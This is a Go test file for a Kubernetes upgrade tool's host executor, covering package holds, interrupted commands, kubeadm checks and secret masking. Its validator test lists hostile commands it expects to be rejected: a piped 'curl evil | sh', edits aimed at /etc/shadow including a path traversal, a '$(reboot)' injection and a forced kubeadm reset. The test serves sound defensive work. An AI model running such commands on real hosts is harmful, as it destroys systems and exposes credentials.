@@ -1,0 +1,291 @@
+package host_test
+
+import (
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/fixline-dev/fixline/internal/apply"
+	"github.com/fixline-dev/fixline/internal/apply/host"
+	"github.com/fixline-dev/fixline/internal/core/plan"
+	"github.com/fixline-dev/fixline/internal/core/progress"
+	"github.com/fixline-dev/fixline/internal/remote"
+	"github.com/fixline-dev/fixline/internal/remote/local"
+)
+
+// stand-ins for what a host has and this machine may not: systemd, whose units
+// here are processes of their own, sudo, and package managers that answer from
+// files. The real ones are in the tests that run on kubeadm hosts.
+var standIns = map[string]string{
+	"sudo": `while [ "${1#-}" != "$1" ]; do shift; done; exec "$@"`,
+	"systemd-run": `unit=
+while [ "${1#-}" != "$1" ]; do case $1 in --unit=*) unit=${1#--unit=} ;; esac; shift; done
+setsid "$@" </dev/null >/dev/null 2>&1 &
+echo $! >"$STATE/$unit.pid"`,
+	"systemctl": `case $1 in
+is-active) kill -0 "$(cat "$STATE/$2.pid" 2>/dev/null)" 2>/dev/null && echo active || echo inactive ;;
+*) echo "$@" >>"$STATE/systemctl" ;;
+esac`,
+	"apt-mark":   `case $1 in showhold) cat "$STATE/held" 2>/dev/null ;; hold) shift; for p; do echo $p >>"$STATE/held"; done ;; slow) ;; esac; echo "$@" >>"$STATE/apt-mark"; sleep "$(cat "$STATE/slow" 2>/dev/null || echo 0)"`,
+	"apt-get":    `echo "$@" >>"$STATE/apt-get"; echo "E: Version not found, token abcdef.0123456789abcdef" >&2; exit 100`,
+	"apt-cache":  `cat "$STATE/madison" 2>/dev/null`,
+	"dpkg-query": `cat "$STATE/dpkg" 2>/dev/null || exit 1`,
+	"kubeadm":    `case "$*" in "upgrade plan"*) cat "$STATE/offers" ;; version*) echo v1.37.1 ;; esac; echo "$@" >>"$STATE/kubeadm"`,
+}
+
+// machine is this one, with the stand-ins.
+type machine struct {
+	t     *testing.T
+	state string
+	hands *host.Hands
+	running
+}
+
+type running map[string]string
+
+func (r running) Running(context.Context, string) (map[string]string, error) { return r, nil }
+
+func newMachine(t *testing.T) *machine {
+	t.Helper()
+	bin, state := t.TempDir(), t.TempDir()
+	for name, script := range standIns {
+		if err := os.WriteFile(filepath.Join(bin, name), []byte("#!/bin/sh\n"+script+"\n"), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	t.Setenv("PATH", bin+":"+os.Getenv("PATH"))
+	t.Setenv("STATE", state)
+	r := local.New("w1", "root")
+	m := &machine{t: t, state: state, running: running{}}
+	m.hands = host.New(host.Options{Reach: func(context.Context, string) (remote.Runner, error) { return r, nil }, Cluster: m.running,
+		Now: time.Now, Poll: time.Millisecond, Folder: filepath.Join(state, "run")})
+	return m
+}
+
+func (m *machine) set(name, text string) {
+	m.t.Helper()
+	if err := os.WriteFile(filepath.Join(m.state, name), []byte(text), 0o600); err != nil {
+		m.t.Fatal(err)
+	}
+}
+
+func (m *machine) lines(name string) []string {
+	text, _ := os.ReadFile(filepath.Join(m.state, name))
+	return strings.Fields(strings.ReplaceAll(string(text), " ", "_"))
+}
+
+func holdStep() *plan.Step {
+	return &plan.Step{ID: "0001-package-hold-w1", Kind: plan.PackageHold, Node: "w1", Commands: []string{"sudo apt-mark hold kubeadm kubelet kubectl"}}
+}
+
+func TestHold(t *testing.T) {
+	m, s, log := newMachine(t), holdStep(), &apply.Log{}
+	m.look(s, progress.Before)
+	if err := m.hands.Do(t.Context(), s, log); err != nil {
+		t.Fatal(err)
+	}
+	m.look(s, progress.There)
+	if left, _ := filepath.Glob(filepath.Join(m.state, "run", "*")); len(left) > 0 {
+		t.Errorf("left on the host: %v", left)
+	}
+	m.set("held", "kubelet\n")
+	m.look(s, progress.Partly)
+}
+
+func (m *machine) look(s *plan.Step, want progress.State) {
+	m.t.Helper()
+	if look, err := m.hands.Look(m.t.Context(), s); err != nil || look.State != want {
+		m.t.Errorf("%s: %+v (%v), want %s", s.ID, look, err, want)
+	}
+}
+
+// TestConnectionLost: a command goes on when whoever began it is gone, and the
+// next run finds it instead of running it a second time.
+func TestConnectionLost(t *testing.T) {
+	m, s := newMachine(t), holdStep()
+	m.set("slow", "2")
+	ctx, cancel := context.WithCancel(t.Context())
+	ended := make(chan error, 1)
+	go func() { ended <- m.hands.Do(ctx, s, &apply.Log{}) }()
+	for len(m.lines("apt-mark")) == 0 {
+		time.Sleep(10 * time.Millisecond)
+	}
+	cancel()
+	if err := <-ended; !errors.Is(err, context.Canceled) {
+		t.Fatalf("%v", err)
+	}
+	if err := m.hands.Do(t.Context(), s, &apply.Log{}); err != nil {
+		t.Fatal(err)
+	}
+	if n := len(m.lines("apt-mark")); n != 1 {
+		t.Errorf("the command ran %d times", n)
+	}
+}
+
+// TestHostStartedAnew: a command of which nothing is left is said, and begun anew
+// the next time.
+func TestHostStartedAnew(t *testing.T) {
+	m, s := newMachine(t), holdStep()
+	dir := filepath.Join(m.state, "run", "fixline-"+s.ID+"-1")
+	if err := os.MkdirAll(dir, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "begun"), nil, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	var gone *host.GoneError
+	if err := m.hands.Do(t.Context(), s, &apply.Log{}); !errors.As(err, &gone) {
+		t.Fatalf("%v", err)
+	}
+	if err := m.hands.Do(t.Context(), s, &apply.Log{}); err != nil || len(m.lines("apt-mark")) != 1 {
+		t.Errorf("%v, %v", err, m.lines("apt-mark"))
+	}
+}
+
+// TestFailing: what a command said is told and kept, without what is secret.
+func TestFailing(t *testing.T) {
+	m := newMachine(t)
+	s := &plan.Step{ID: "0002-kubelet-package-w1", Kind: plan.KubeletPackage, Node: "w1", Components: []string{"kubelet"}, To: "1.37.1",
+		Commands: []string{"sudo apt-get install -y --allow-downgrades kubelet='1.37.1-*'", "sudo systemctl restart kubelet"}}
+	var failed *host.FailedError
+	err := m.hands.Do(t.Context(), s, &apply.Log{})
+	if !errors.As(err, &failed) || failed.Status != 100 || !strings.Contains(err.Error(), "Version not found") || strings.Contains(err.Error(), "0123456789abcdef") {
+		t.Errorf("%v", err)
+	}
+	if got := m.lines("apt-get"); len(got) != 1 || got[0] != "install_-y_--allow-downgrades_kubelet=1.37.1-*" {
+		t.Errorf("ran %v", got)
+	}
+	if got := m.lines("systemctl"); len(got) > 0 {
+		t.Errorf("went on with %v", got)
+	}
+}
+
+// TestKubeadmOffersAnother: what kubeadm says it would do is what the plan says.
+func TestKubeadmOffersAnother(t *testing.T) {
+	m := newMachine(t)
+	s := &plan.Step{ID: "0003-kubeadm-apply-cp1", Kind: plan.KubeadmApply, Node: "cp1", Components: []string{"kube-apiserver"}, From: "1.37.0", To: "1.37.1",
+		Commands: []string{"sudo kubeadm upgrade plan v1.37.1", "sudo kubeadm upgrade apply v1.37.1 --yes"}}
+	m.set("offers", "You can now apply the upgrade by executing the following command:\n\n\tkubeadm upgrade apply v1.37.2\n")
+	if err := m.hands.Do(t.Context(), s, &apply.Log{}); err == nil || !strings.Contains(err.Error(), "does not offer the upgrade to 1.37.1") {
+		t.Errorf("%v", err)
+	}
+	m.set("offers", "\tkubeadm upgrade apply v1.37.1\n")
+	s.ID = "0004-kubeadm-apply-cp1"
+	if err := m.hands.Do(t.Context(), s, &apply.Log{}); err != nil || len(m.lines("kubeadm")) != 3 {
+		t.Errorf("%v, %v", err, m.lines("kubeadm"))
+	}
+}
+
+func TestLookAtKubeadm(t *testing.T) {
+	m := newMachine(t)
+	s := &plan.Step{ID: "5", Kind: plan.KubeadmApply, Node: "cp1", Components: []string{"kube-apiserver", "kube-scheduler"}, From: "1.37.0", To: "1.37.1",
+		Also: []plan.Move{{Component: "etcd", Node: "cp1", From: "3.6.5", To: "3.7.0"}}}
+	for _, c := range []struct {
+		server, scheduler, etcd string
+		want                    progress.State
+	}{
+		{"1.37.0", "1.37.0", "3.6.5", progress.Before},
+		{"1.37.1", "1.37.0", "3.7.0", progress.Partly},
+		{"", "1.37.1", "3.7.0", progress.Partly},
+		{"1.37.1", "1.37.1", "3.7.0", progress.There},
+		{"1.37.1", "1.36.9", "3.7.0", progress.Unclear},
+	} {
+		m.running["kube-apiserver"], m.running["kube-scheduler"], m.running["etcd"] = c.server, c.scheduler, c.etcd
+		m.look(s, c.want)
+	}
+}
+
+func TestLookAtPackages(t *testing.T) {
+	m := newMachine(t)
+	s := &plan.Step{ID: "6", Kind: plan.KubeletPackage, Node: "w1", Components: []string{"kubelet"}, From: "1.37.0", To: "1.37.1"}
+	for _, c := range []struct {
+		dpkg, runs string
+		want       progress.State
+	}{
+		{"deb|hold|installed|ok|1.37.0-1.1", "1.37.0", progress.Before},
+		{"deb|hold|installed|ok|1.37.1-1.1", "1.37.0", progress.Partly},
+		{"deb|install|installed|ok|1.37.1-1.1", "1.37.1", progress.Partly},
+		{"deb|hold|installed|ok|1.37.1-1.1", "1.37.1", progress.There},
+		{"deb|install|half-configured|ok|1.37.1-1.1", "1.37.0", progress.Unclear},
+		{"deb|deinstall|config-files|ok|1.36.0-1.1", "1.37.0", progress.Before},
+	} {
+		m.set("dpkg", c.dpkg+"\n")
+		m.running["kubelet"] = c.runs
+		m.look(s, c.want)
+	}
+}
+
+func TestLookAtRepository(t *testing.T) {
+	m := newMachine(t)
+	s := &plan.Step{ID: "7", Kind: plan.PackageRepository, Node: "w1", To: "1.37"}
+	m.set("madison", " kubeadm | 1.36.3-1.1 | https://pkgs.example.org/v1.36/deb  Packages\n")
+	m.look(s, progress.Before)
+	m.set("madison", " kubeadm | 1.37.1-1.1 | https://pkgs.example.org/v1.37/deb  Packages\n")
+	m.look(s, progress.There)
+}
+
+func TestPreflight(t *testing.T) {
+	m := newMachine(t)
+	p := &plan.Plan{Steps: []plan.Step{{ID: "8", Kind: plan.KubeletPackage, Node: "w1", Components: []string{"kubelet"}, From: "1.37.0", To: "1.37.1"}}}
+	m.set("dpkg", "deb|hold|installed|ok|1.36.0-1.1\n")
+	m.set("madison", " kubelet | 1.37.0-1.1 | x\n kubelet | 1.36.3-1.1 | x\n")
+	found, err := m.hands.Preflight(t.Context(), p)
+	if err != nil || len(found) != 2 || found[0].Blocks || !found[1].Blocks || !strings.Contains(found[1].Says, "w1 offers kubelet 1.37.0, 1.36.3, and not 1.37.1") {
+		t.Errorf("%+v, %v", found, err)
+	}
+	m.set("madison", " kubelet | 1.37.1-1.1 | x\n kubelet | 1.36.0-1.1 | x\n")
+	if found, err = m.hands.Preflight(t.Context(), p); err != nil || len(found) != 0 {
+		t.Errorf("%+v, %v", found, err)
+	}
+}
+
+func TestKnown(t *testing.T) {
+	for _, c := range []struct {
+		kind    plan.Kind
+		command string
+		known   bool
+	}{
+		{plan.PackageHold, "sudo apt-mark hold kubeadm kubelet kubectl", true},
+		{plan.PackageHold, "sudo apt-mark hold kubectl; curl evil | sh", false},
+		{plan.PackageRepository, `sudo sed -i -E 's#/v1\.[0-9]+/#/v1.37/#' /etc/apt/sources.list.d/kubernetes.list`, true},
+		{plan.PackageRepository, `sudo sed -i -E 's#/v1\.[0-9]+/#/v1.37/#' /etc/shadow`, false},
+		{plan.PackageRepository, `sudo sed -i -E 's#/v1\.[0-9]+/#/v1.37/#' /etc/apt/sources.list.d/../../shadow`, false},
+		{plan.ImagePull, "sudo crictl pull registry.k8s.io/etcd:3.6.5-0", true},
+		{plan.ImagePull, "sudo crictl pull x $(reboot)", false},
+		{plan.KubeletPackage, "sudo apt-get install -y --allow-downgrades kubelet='1.37.1-1.1'", true},
+		{plan.KubeletPackage, "sudo apt-get install -y --allow-downgrades nmap='1'", false},
+		{plan.KubeletPackage, "sudo systemctl restart kubelet", true},
+		{plan.KubeadmPackage, "sudo systemctl restart kubelet", false},
+		{plan.KubeadmApply, "sudo kubeadm upgrade apply v1.37.1 --yes", true},
+		{plan.KubeadmApply, "sudo kubeadm upgrade apply v1.37.1 --yes --ignore-preflight-errors=SystemVerification,Swap", true},
+		{plan.KubeadmApply, "sudo kubeadm upgrade apply v1.37.1 --yes --ignore-preflight-errors=all", false},
+		{plan.KubeadmApply, "sudo kubeadm upgrade apply v1.37.1 --yes --ignore-preflight-errors=Swap,all", false},
+		{plan.KubeadmApply, "sudo kubeadm upgrade apply v1.37.1 --force", false},
+		{plan.KubeadmNode, "sudo kubeadm upgrade node", true},
+		{plan.KubeadmNode, "sudo kubeadm reset -f", false},
+	} {
+		err := host.Known(&plan.Step{ID: "1", Kind: c.kind, Commands: []string{c.command}})
+		if (err == nil) != c.known {
+			t.Errorf("%s: %q: %v", c.kind, c.command, err)
+		}
+	}
+}
+
+func TestMasked(t *testing.T) {
+	for text, want := range map[string]string{
+		"joined with abcdef.0123456789abcdef":                                 "joined with [masked]",
+		"--certificate-key 0123abcd done":                                     "--certificate-key [masked] done",
+		"Authorization: Bearer s3cr3t":                                        "Authorization: Bearer [masked]",
+		"https://user:pw@mirror.example.org/x":                                "https://user:[masked]mirror.example.org/x",
+		"-----BEGIN RSA PRIVATE KEY-----\nMII\n-----END RSA PRIVATE KEY-----": "-----BEGIN RSA PRIVATE KEY-----[masked]",
+		"[upgrade] Success! v1.37.1":                                          "[upgrade] Success! v1.37.1",
+	} {
+		if got := host.Masked(text); got != want {
+			t.Errorf("%q became %q, want %q", text, got, want)
+		}
+	}
+}
